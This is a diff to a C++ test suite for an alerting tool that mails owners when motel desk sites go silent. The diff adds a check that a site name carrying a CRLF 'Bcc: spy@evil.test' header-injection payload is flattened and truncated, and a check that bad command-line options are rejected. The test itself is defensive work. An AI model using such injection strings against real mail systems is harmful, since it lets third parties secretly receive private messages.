@@ -5,6 +5,7 @@
 
 #include <QCoreApplication>
 #include <QElapsedTimer>
+#include <QJsonArray>
 #include <QProcess>
 #include <QThread>
 #include <functional>
@@ -33,9 +34,12 @@ bool waitFor(const std::function<bool()>& done, int ms = 20000) {
 
 struct Desk : DeskTables {
     QString site;
+    QString name;
     std::unique_ptr<OutboxSender> sender;
 
-    explicit Desk(QString id) : site(std::move(id)) { outbox::install(db->connection()); }
+    explicit Desk(QString id) : site(std::move(id)), name(QStringLiteral("모텔 ") + site) {
+        outbox::install(db->connection());
+    }
     ~Desk() {
         if (sender) sender->stop();
     }
@@ -44,7 +48,7 @@ struct Desk : DeskTables {
         o.databasePath = db->path();
         o.connection = connection;
         o.site = site;
-        o.siteName = QStringLiteral("모텔 ") + site;
+        o.siteName = name;
         o.pollMs = 20;
         o.heartbeatEveryMs = 100;
         sender = std::make_unique<OutboxSender>(o);
@@ -124,6 +128,10 @@ TEST_F(CentralWatchTest, TwoDesksStoppedHardAreToldOnceAndOnceMoreWhenBack) {
             centralSchema::grantSite(c, site, QStringLiteral("desk%1").arg(n));
         }
         desks.push_back(std::make_unique<Desk>(site));
+        // A desk names its own site: this one tries to add a receiver to the owner's mail.
+        if (n == 7)
+            desks.back()->name =
+                QStringLiteral("모텔\r\nBcc: spy@evil.test\r\n") + QString(200, u'가');
         desks.back()->start(pg->connection(QStringLiteral("desk%1").arg(n)));
         all << site;
     }
@@ -152,9 +160,15 @@ TEST_F(CentralWatchTest, TwoDesksStoppedHardAreToldOnceAndOnceMoreWhenBack) {
     o = watchAt(minuteLater);
     EXPECT_EQ(o.sent, 4) << o.problems.join(u'\n').toStdString();
     EXPECT_EQ(o.exitCode(), 0);
+    // Its name reaches the subject on one line, cut to 100 characters.
+    const QString hostile =
+        (QStringLiteral("모텔  Bcc: spy@evil.test  ") + QString(200, u'가')).left(100);
     EXPECT_EQ(subjects(),
-              QStringList({QStringLiteral("[한빛 그룹] 데스크 연락 끊김: 모텔 site3 (site3)"),
-                           QStringLiteral("[한빛 그룹] 데스크 연락 끊김: 모텔 site7 (site7)")}));
+              QStringList({QStringLiteral("[한빛 그룹] 데스크 연락 끊김: %1 (site7)").arg(hostile),
+                           QStringLiteral("[한빛 그룹] 데스크 연락 끊김: 모텔 site3 (site3)")}));
+    for (const QJsonObject& m : receivers.received("mail"))
+        EXPECT_EQ(m[QStringLiteral("to")].toArray(),
+                  QJsonArray({QStringLiteral("owner@group.test")}));
     const QString body = receivers.received("mail")[0][QStringLiteral("body")].toString();
     EXPECT_TRUE(body.contains(QStringLiteral("1분 넘게 소식이 없습니다"))) << body.toStdString();
     EXPECT_TRUE(body.contains(QStringLiteral("확인하십시오")));
@@ -180,7 +194,7 @@ TEST_F(CentralWatchTest, TwoDesksStoppedHardAreToldOnceAndOnceMoreWhenBack) {
     const QStringList told = subjects();
     ASSERT_EQ(told.size(), 4);
     EXPECT_EQ(told.filter(QStringLiteral("데스크 연락 복구: 모텔 site3 (site3)")).size(), 1);
-    EXPECT_EQ(told.filter(QStringLiteral("데스크 연락 복구: 모텔 site7 (site7)")).size(), 1);
+    EXPECT_EQ(told.filter(QStringLiteral("데스크 연락 복구: %1 (site7)").arg(hostile)).size(), 1);
     EXPECT_EQ(receivers.received("hook").size(), 4);
     EXPECT_EQ(watchAt(back).sent, 0);
 
@@ -194,6 +208,36 @@ TEST_F(CentralWatchTest, TwoDesksStoppedHardAreToldOnceAndOnceMoreWhenBack) {
     const QString out = QString::fromUtf8(watch.readAllStandardOutput());
     EXPECT_EQ(watch.exitCode(), 0) << out.toStdString() << watch.readAllStandardError().constData();
     EXPECT_EQ(out, QStringLiteral("central watch: 10 sites, 0 silent over 1 min, 0 alerts sent\n"));
+    EXPECT_EQ(receivers.received("mail").size(), 4);
+
+    // What the administrator gets wrong is refused before anything is read or sent.
+    IniStore(adminDir.filePath(QStringLiteral("empty.ini")))
+        .writeString(QStringLiteral("Alert"), QStringLiteral("Webhook"),
+                     QStringLiteral("http://127.0.0.1:1/plain"));
+    const struct {
+        QStringList args;
+        const char* says;
+    } wrong[] = {
+        {{QStringLiteral("--settings"), settingsPath}, "--minutes N is missing"},
+        {{QStringLiteral("--minutes"), QStringLiteral("0"), QStringLiteral("--settings"),
+          settingsPath},
+         "'0' is not a number from 1 to 10080"},
+        {{QStringLiteral("--minutes"), QStringLiteral("5"), QStringLiteral("--settings"),
+          adminDir.filePath(QStringLiteral("missing.ini"))},
+         "no settings file"},
+        {{QStringLiteral("--minutes"), QStringLiteral("5"), QStringLiteral("--settings"),
+          adminDir.filePath(QStringLiteral("empty.ini"))},
+         "sets no usable Smtp or Webhook"},
+    };
+    for (const auto& w : wrong) {
+        QProcess p;
+        p.start(QStringLiteral(TAVOLEN_BIN_DIR "/tavolen"),
+                QStringList{QStringLiteral("central"), QStringLiteral("watch")} + w.args);
+        ASSERT_TRUE(p.waitForFinished(60000));
+        const QString said = QString::fromUtf8(p.readAllStandardError());
+        EXPECT_EQ(p.exitCode(), 2) << w.says;
+        EXPECT_TRUE(said.contains(QString::fromUtf8(w.says))) << said.toStdString();
+    }
     EXPECT_EQ(receivers.received("mail").size(), 4);
 }
 
